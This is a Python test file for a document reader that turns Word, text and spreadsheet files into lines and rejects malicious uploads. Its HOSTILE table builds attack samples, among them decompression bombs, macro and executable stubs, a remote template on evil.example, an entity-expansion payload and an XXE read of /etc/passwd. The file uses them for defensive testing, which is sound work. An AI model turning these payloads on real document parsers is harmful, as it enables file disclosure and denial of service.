"""Documents of any origin as lines: kind ones, and those that mean harm."""

import io
import zipfile
from collections.abc import Callable

import docx
import pytest

from tests.figures import figure
from tests.intake.sheets import xlsx
from xinhuo.ground.intake.errors import Unreadable
from xinhuo.ground.intake.prose import read_lines

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document(*paragraphs: str, rows: list[list[str]] | None = None) -> bytes:
    made = docx.Document()
    for text in paragraphs:
        made.add_paragraph(text)
    if rows:
        table = made.add_table(len(rows), len(rows[0]))
        for n, row in enumerate(rows):
            for m, text in enumerate(row):
                table.cell(n, m).text = text
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def changed(raw: bytes, **parts: bytes) -> bytes:
    """The package with some parts replaced or added (`__` for / in their names, `_dot_` for a point)."""
    wanted = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for one in old.namelist():
            if one not in wanted:
                new.writestr(one, old.read(one))
        for name, content in wanted.items():
            new.writestr(name, content)
    return out.getvalue()


def refused(raw: bytes, name: str = "大事记.docx") -> str:
    with pytest.raises(Unreadable) as caught:
        read_lines(raw, name)
    said = str(caught.value)
    assert 0 < len(said) <= 40
    return said


def test_a_document_with_paragraphs_and_a_table() -> None:
    raw = document("一月", "", "5日，开会。", rows=[["3月5日", "学雷锋"], ["4月3日", "清明祭扫"]])
    assert read_lines(raw, "大事记.docx") == ("一月", "5日，开会。", "3月5日 学雷锋", "4月3日 清明祭扫")


def test_text_in_the_encodings_of_offices() -> None:
    for coding in ("utf-8", "utf-8-sig", "gb18030", "utf-16"):
        assert read_lines("一月\r\n5日，开会。\r\n".encode(coding), "旧.txt") == ("一月", "5日，开会。")


def test_a_workbook_row_by_row() -> None:
    assert read_lines(xlsx(("日期", "事项"), ("2019.3.5", "学雷锋")), "旧.xlsx") == ("日期 事项", "2019.3.5 学雷锋")


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"  ", "是空的"),
    "no package": (lambda: b"PK\x03\x04 nothing", "打不开"),
    "old format": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "密码"),
    "a workbook by another name": (lambda: xlsx(("a",)), "对不上"),
    "bomb": (lambda: changed(document("甲"), word__media__big_dot_bin=b"\0" * 210_000_000), "太长"),
    "bomb in the text": (lambda: changed(document("甲"), word__document_dot_xml=b" " * 61_000_000), "太长"),
    "macros": (lambda: changed(document("甲"), word__vbaProject_dot_bin=b"x"), "宏"),
    "a program inside": (lambda: changed(document("甲"), word__embeddings__one_dot_exe=b"MZ"), "宏"),
    "a template from outside": (
        lambda: changed(
            document("甲"),
            word___rels__settings_dot_xml_dot_rels=(
                b'<Relationships xmlns="x"><Relationship Id="r" Type="http://x/attachedTemplate" '
                b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
            ),
        ),
        "外面的模板",
    ),
    "entities": (
        lambda: changed(
            document("甲"),
            word__document_dot_xml=f'<!DOCTYPE a [<!ENTITY b "{"x" * 999}">]><w:document {WORD}>&b;</w:document>'.encode(),
        ),
        "打不开",
    ),
    "an entity of a file": (
        lambda: changed(
            document("甲"),
            word__document_dot_xml=(
                f'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document {WORD}><w:p>'
                "<w:r><w:t>&b;</w:t></w:r></w:p></w:document>"
            ).encode(),
        ),
        "打不开",
    ),
    "no text part": (lambda: changed(document("甲"), word__document_dot_xml=b"<"), "打不开"),
    "endless": (
        lambda: changed(
            document("甲"),
            word__document_dot_xml=f"<w:document {WORD}>{'<w:p><w:r><w:t>一</w:t></w:r></w:p>' * 20_001}</w:document>".encode(),
        ),
        "太长",
    ),
}


@pytest.mark.parametrize("which", HOSTILE)
def test_what_means_harm_gets_a_sentence(which: str) -> None:
    make, said = HOSTILE[which]
    assert said in refused(make())


def test_how_many_were_tried() -> None:
    figure("Older documents", "hostile or broken documents tried, each answered with one sentence", len(HOSTILE))


@pytest.mark.parametrize(
    ("name", "said"),
    [("旧.doc", "旧格式"), ("旧.wps", "旧格式"), ("旧.pdf", "只收"), ("旧.docm", "只收"), ("旧", "只收")],
)
def test_other_kinds_of_files(name: str, said: str) -> None:
    assert said in refused(document("甲"), name)


def test_a_document_called_text() -> None:
    assert "不是文本" in refused(document("甲"), "旧.txt")


def test_links_to_pages_are_no_harm() -> None:
    rels = (
        b'<Relationships xmlns="x"><Relationship Id="r" TargetMode="External" Target="http://a.example/" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
    )
    assert read_lines(changed(document("甲"), word___rels__more_dot_xml_dot_rels=rels), "旧.docx") == ("甲",)
